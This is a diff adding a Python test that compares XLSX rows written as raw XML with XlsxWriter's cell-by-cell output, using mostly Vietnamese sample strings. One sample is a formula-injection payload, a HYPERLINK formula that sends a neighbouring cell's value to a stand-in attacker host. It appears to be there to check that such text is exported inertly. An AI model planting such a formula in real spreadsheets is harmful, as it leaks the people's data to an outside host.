@@ -1,0 +1,62 @@
+"""A row written as XML (RowSheet.write_xml_row) is the row XlsxWriter writes cell by cell."""
+
+import datetime as dt
+import io
+import zipfile
+
+from xlsxwriter import Workbook
+
+from exports.xlsx import QUOTED, RowSheet, inline_text, number, write_text
+
+TEXTS = [
+    "Kiểm tra hàng nhập lậu",
+    '=HYPERLINK("http://evil.example/?leak="&B2,"x")',
+    "-5 ngày",
+    "\tTab đầu dòng",
+    "a < b & c > d",
+    "Dòng một\nDòng hai",
+    " khoảng trắng ở hai đầu ",
+    "điều khiển \x01 và _x0041_",
+    'dấu "ngoặc kép"',
+]
+
+
+def _sheet_xml(data: bytes) -> str:
+    with zipfile.ZipFile(io.BytesIO(data)) as package:
+        return package.read("xl/worksheets/sheet1.xml").decode()
+
+
+def _workbook(fill) -> bytes:
+    out = io.BytesIO()
+    workbook = Workbook(out, {"constant_memory": True})
+    formats = {
+        "quoted": workbook.add_format(QUOTED),
+        "date": workbook.add_format({"num_format": "DD/MM/YYYY"}),
+    }
+    ws = workbook.add_worksheet("Danh sách", worksheet_class=RowSheet)
+    fill(ws, formats)
+    workbook.close()
+    return out.getvalue()
+
+
+def test_a_row_of_xml_is_what_xlsxwriter_writes_cell_by_cell():
+    day = dt.date(2024, 2, 29)
+
+    def by_cell(ws, formats):
+        for row, text in enumerate(TEXTS, start=1):
+            write_text(ws, row, 0, text, formats["quoted"])
+            ws.write_number(row, 1, row * 1.5)
+            ws.write_datetime(row, 2, day, formats["date"])
+
+    def by_row(ws, formats):
+        class Indexes:
+            def index(self, kind):
+                return formats[kind]._get_xf_index()
+
+        for row, text in enumerate(TEXTS, start=1):
+            cells = inline_text(f"A{row + 1}", text, Indexes())
+            cells += number(f"B{row + 1}", row * 1.5, None)
+            cells += number(f"C{row + 1}", ws._convert_date_time(day), Indexes().index("date"))
+            ws.write_xml_row(row, 0, 2, cells)
+
+    assert _sheet_xml(_workbook(by_row)) == _sheet_xml(_workbook(by_cell))
